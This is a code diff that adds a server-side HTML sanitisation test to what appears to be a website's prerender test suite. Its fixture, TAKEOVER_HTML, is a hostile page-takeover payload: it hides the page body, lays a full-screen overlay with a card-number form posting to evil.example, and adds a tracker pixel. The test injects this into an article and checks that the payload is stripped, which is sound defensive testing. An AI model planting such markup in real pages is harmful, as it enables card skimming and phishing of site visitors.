@@ -58,6 +58,12 @@ function jsonLd(doc: Document): Record<string, unknown>[] {
   });
 }
 
+const TAKEOVER_HTML =
+  '<style>body{display:none}</style><div style="position:fixed;inset:0" class="fixed inset-0">' +
+  '<form action="https://evil.example"><input name="card"><button>Pay</button></form></div>' +
+  '<img id="cart" src="https://tracker.example/p.gif"><img src="articles/kept.webp" alt="Kept">' +
+  '<p><a href="https://artisans.example">Makers</a></p>';
+
 const types = (doc: Document) => jsonLd(doc).map((block) => block['@type']);
 
 beforeAll(async () => {
@@ -67,6 +73,11 @@ beforeAll(async () => {
     recipe: `/recipe/${await firstSlug(`select slug from articles where category = 'recipe' and published order by slug limit 1`)}`,
     ritual: `/ritual/${await firstSlug(`select slug from articles where category = 'ritual' and published order by slug limit 1`)}`,
   };
+  // An editor's row that tries to take over the page: the server render must sanitise it like the browser.
+  await backend.db.query(`update articles set body = body || $1 where slug = $2`, [
+    TAKEOVER_HTML,
+    paths.ritual.split('/').pop(),
+  ]);
   outDir = mkdtempSync(path.join(tmpdir(), 'zellij-prerender-'));
   writeFileSync(path.join(outDir, 'index.html'), VITE_INDEX);
   // The app reads these through import.meta.env, exactly as the client build does.
@@ -150,6 +161,20 @@ describe('prerendered pages', () => {
   it('renders a recipe with Recipe JSON-LD and a ritual with Article JSON-LD', () => {
     expect(types(page(paths.recipe))).toContain('Recipe');
     expect(types(page(paths.ritual))).toContain('Article');
+  });
+
+  it('sanitises editor HTML on the server as the browser does', () => {
+    const doc = page(paths.ritual);
+    const essay = doc.querySelector('img[alt="Kept"]')!.parentElement!;
+    expect(essay.querySelectorAll('p').length).toBeGreaterThan(2);
+    expect(essay.querySelector('style, form, input, button, [style], [id], [class]')).toBeNull();
+    expect([...essay.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual([
+      `${backend.url}/storage/v1/object/public/media/articles/kept.webp`,
+    ]);
+    expect(essay.querySelector('a[href="https://artisans.example/"]')).toHaveProperty(
+      'rel',
+      'noopener noreferrer nofollow',
+    );
   });
 
   it('carries the data it was rendered from, for its own location only', () => {
